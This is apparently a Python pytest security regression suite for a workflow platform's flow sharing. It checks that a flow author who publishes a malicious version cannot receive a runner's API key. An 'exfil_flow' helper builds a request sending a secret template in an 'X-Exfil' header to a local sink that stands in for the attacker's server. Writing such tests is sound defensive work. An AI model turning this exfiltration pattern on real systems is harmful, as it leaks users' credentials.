"""Issue 9 item 2 replayed: a shared flow's author must never receive the runner's secrets.

Two real users over HTTP, real workers, a local sink standing for the author's server. The author
shares a harmless published flow, then publishes a version sending `{{ secrets.OPENAI_API_KEY }}` to
the sink: the runner must accept the new version first (409 before), sees which secret names it
uses, and when it runs, the runner's key never reaches the sink; the owner's own secret reaches it
only once the owner bound it to the flow. Runners run only the published version; resume, fork and
signal re-check the share and that the flow still exists.
"""

from __future__ import annotations

import uuid
from typing import Any

import httpx
import pytest

from tests.conftest import make_user
from tests.support.client import Api, linear_flow
from tests.support.flows import edge, flow_def, node
from tests.support.sink import Sink
from tests.support.stack import Stack


def user(stack: Stack, database_url: str) -> Api:
    return Api(stack.base_url, *make_user(database_url, "editor"))


def me(api: Api) -> dict[str, Any]:
    return dict(api.http.get("/api/auth/me").json())


def put_secret(api: Api, name: str, value: str) -> None:
    r = api.http.post("/api/v1/secrets", json={"name": name, "value": value})
    assert r.status_code == 201, r.text


def share(owner: Api, fid: str, runner: Api) -> httpx.Response:
    r = owner.http.post(
        f"/api/v1/flows/{fid}/shares", json={"email": me(runner)["email"], "permission": "run"}
    )
    assert r.status_code == 202, r.text  # the same answer for known and unknown emails
    return r


def publish(api: Api, fid: str) -> int:
    r = api.http.post(f"/api/v1/flows/{fid}/publish")
    assert r.status_code == 200, r.text
    return int(r.json()["published_version"])


def start(api: Api, fid: str, **body: Any) -> httpx.Response:
    return api.http.post(f"/api/v1/flows/{fid}/runs", json={"inputs": {}, **body})


def exfil_flow(sink: Sink, path: str, name: str) -> dict[str, Any]:
    headers = {"X-Exfil": "{{ secrets." + name + " }}"}
    return linear_flow(("send", "http_request", {"url": sink.url(path), "headers": headers}))


def sent_values(sink: Sink) -> str:
    return repr(sink.requests)


@pytest.fixture
def pair(running_stack: Stack, database_url: str) -> tuple[Api, Api]:
    return user(running_stack, database_url), user(running_stack, database_url)


def test_shared_flow_never_receives_the_runners_secret_and_owner_bound_ones_work(
    pair: tuple[Api, Api], sink: Sink
) -> None:
    owner, runner = pair
    name = "OPENAI_API_KEY"
    runner_key = "sk-runner-" + uuid.uuid4().hex
    owner_key = "sk-owner-" + uuid.uuid4().hex
    put_secret(runner, name, runner_key)
    fid = owner.create_flow(linear_flow(("t", "template", {"template": "hi"})))["id"]
    assert publish(owner, fid) == 1
    assert share(owner, fid, runner).json()["version"] == 1
    run = runner.wait_run(start(runner, fid).json()["id"])
    assert run["status"] == "succeeded", run

    # the author turns the flow into an exfiltration and publishes it
    r = owner.http.put(f"/api/v1/flows/{fid}", json={"definition": exfil_flow(sink, "/x", name)})
    assert r.status_code == 200, r.text
    assert publish(owner, fid) == 2
    refused = start(runner, fid)
    assert refused.status_code == 409 and "accept" in refused.json()["detail"], refused.text
    assert start(runner, fid, version=1).status_code == 403, "an older version is not published"

    seen = runner.http.get(f"/api/v1/flows/{fid}/secrets").json()
    assert seen == {"version": 2, "used": [name], "bound": []}
    accepted = runner.http.post(f"/api/v1/flows/{fid}/shares/accept")
    assert accepted.status_code == 200 and accepted.json()["version"] == 2, accepted.text

    # the runner's key is never used; the owner has no such secret yet
    run = runner.wait_run(start(runner, fid).json()["id"])
    assert run["status"] == "failed"
    assert "not defined for the flow's owner" in runner.steps(run)["send"]["error"]["message"]
    assert runner_key not in sent_values(sink) and not sink.requests

    # the owner's secret exists but is not bound: still refused, never the runner's
    put_secret(owner, name, owner_key)
    run = runner.wait_run(start(runner, fid).json()["id"])
    assert run["status"] == "failed"
    assert "not bound to this flow" in runner.steps(run)["send"]["error"]["message"]
    assert not sink.requests

    # the owner's own run uses the owner's secret without a binding
    own = owner.wait_run(start(owner, fid).json()["id"])
    assert own["status"] == "succeeded", own
    assert sink.requests[-1]["headers"]["X-Exfil"] == owner_key

    # bound by the owner: the runner's run works with the OWNER's key, never the runner's
    bad = owner.http.put(f"/api/v1/flows/{fid}/secrets/NOT_A_SECRET_{uuid.uuid4().hex[:6]}")
    assert bad.status_code == 422 and bad.json()["errors"][0]["path"] == "path.name"
    assert runner.http.put(f"/api/v1/flows/{fid}/secrets/{name}").status_code == 403
    assert owner.http.put(f"/api/v1/flows/{fid}/secrets/{name}").status_code == 201
    run = runner.wait_run(start(runner, fid).json()["id"])
    assert run["status"] == "succeeded", run
    assert sink.requests[-1]["headers"]["X-Exfil"] == owner_key
    assert runner_key not in sent_values(sink)
    assert owner_key not in runner.http.get(f"/api/v1/runs/{run['id']}").text

    # a draft saved after publishing is not runnable by the runner, even by naming it
    owner.http.put(f"/api/v1/flows/{fid}", json={"definition": exfil_flow(sink, "/y", name)})
    named = start(runner, fid, version=3)
    assert named.status_code == 403 and named.json()["errors"][0]["path"] == "body.version"
    assert runner.http.post(f"/api/v1/run/{fid}", json={"input_value": "x"}).status_code == 200

    # re-sharing grants the version published now; unbinding stops the owner's key again
    assert publish(owner, fid) == 3
    assert start(runner, fid).status_code == 409
    assert share(owner, fid, runner).json()["version"] == 3
    assert owner.http.delete(f"/api/v1/flows/{fid}/secrets/{name}").status_code == 204
    run = runner.wait_run(start(runner, fid).json()["id"])
    assert run["status"] == "failed" and not [r for r in sink.requests if r["path"] == "/y"]
    assert runner_key not in sent_values(sink)


def signal_then_template() -> dict[str, Any]:
    return flow_def(
        [
            node("in", "input"),
            node("wait", "wait_for_signal"),
            node("t", "template", template="go"),
            node("out", "output"),
        ],
        [edge("in", "wait"), edge("wait", "t", "out"), edge("t", "out")],
    )


def control(api: Api, rid: str) -> dict[str, int]:
    return {
        "signal": api.http.post(f"/api/v1/runs/{rid}/signal", json={"node_id": "wait"}).status_code,
        "fork": api.http.post(f"/api/v1/runs/{rid}/fork", json={"from_node_id": "t"}).status_code,
        "resume": api.http.post(f"/api/v1/runs/{rid}/resume").status_code,
    }


def test_resume_fork_and_signal_recheck_the_share_and_the_flow(pair: tuple[Api, Api]) -> None:
    owner, runner = pair
    fid = owner.create_flow(signal_then_template())["id"]
    publish(owner, fid)
    share(owner, fid, runner)
    waiting = start(runner, fid).json()["id"]
    runner.wait_run(waiting, statuses=("waiting",))
    done = start(runner, fid).json()["id"]
    assert (
        runner.http.post(f"/api/v1/runs/{done}/signal", json={"node_id": "wait"}).status_code == 202
    )
    assert runner.wait_run(done)["status"] == "succeeded"

    # revoked: the runner's own runs stay readable but nothing of them runs again
    assert owner.http.delete(f"/api/v1/flows/{fid}/shares/{me(runner)['id']}").status_code == 204
    assert control(runner, waiting) == {"signal": 403, "fork": 403, "resume": 403}
    assert control(runner, done)["fork"] == 403
    assert runner.run(waiting)["status"] == "waiting"

    # shared again, then a newer version published: fork/resume of the old version refused
    share(owner, fid, runner)
    fork = runner.http.post(f"/api/v1/runs/{done}/fork", json={"from_node_id": "t"})
    assert fork.status_code == 202, fork.text
    assert runner.wait_run(fork.json()["id"])["status"] == "succeeded"
    owner.http.put(f"/api/v1/flows/{fid}", json={"definition": signal_then_template()})
    publish(owner, fid)
    assert (
        runner.http.post(f"/api/v1/runs/{done}/fork", json={"from_node_id": "t"}).status_code == 409
    )

    # the flow deleted: nothing runs again, for the runner or the owner
    own = start(owner, fid).json()["id"]
    owner.wait_run(own, statuses=("waiting",))
    assert owner.http.delete(f"/api/v1/flows/{fid}").status_code == 204
    assert control(runner, waiting) == {"signal": 409, "fork": 409, "resume": 409}
    assert control(owner, own) == {"signal": 409, "fork": 409, "resume": 409}


def test_secret_binding_and_accept_routes_answer_4xx_never_5xx(
    pair: tuple[Api, Api], running_stack: Stack, database_url: str
) -> None:
    owner, runner = pair
    stranger = user(running_stack, database_url)
    fid = owner.create_flow(linear_flow(("t", "template", {"template": "x"})))["id"]
    share(owner, fid, runner)
    accept = runner.http.post(f"/api/v1/flows/{fid}/shares/accept")
    assert accept.status_code == 409, "nothing published to accept"
    assert start(runner, fid).status_code == 409
    assert stranger.http.post(f"/api/v1/flows/{fid}/shares/accept").status_code == 404
    assert stranger.http.get(f"/api/v1/flows/{fid}/secrets").status_code == 404
    assert stranger.http.put(f"/api/v1/flows/{fid}/secrets/X").status_code == 404
    assert runner.http.get(f"/api/v1/flows/{fid}/secrets").json() == {
        "version": None,
        "used": [],
        "bound": [],
    }
    for bad in ("1abc", "a-b", "x" * 65):
        r = owner.http.put(f"/api/v1/flows/{fid}/secrets/{bad}")
        assert r.status_code == 422 and r.json()["errors"][0]["path"] == "path.name", r.text
    assert owner.http.delete(f"/api/v1/flows/{fid}/secrets/NOPE").status_code == 404
    assert runner.http.delete(f"/api/v1/flows/{fid}/secrets/NOPE").status_code == 403
    assert owner.http.put(f"/api/v1/flows/{uuid.uuid4()}/secrets/X").status_code == 404
    publish(owner, fid)
    assert runner.http.post(f"/api/v1/flows/{fid}/shares/accept").json()["version"] == 1
    assert runner.wait_run(start(runner, fid).json()["id"])["status"] == "succeeded"
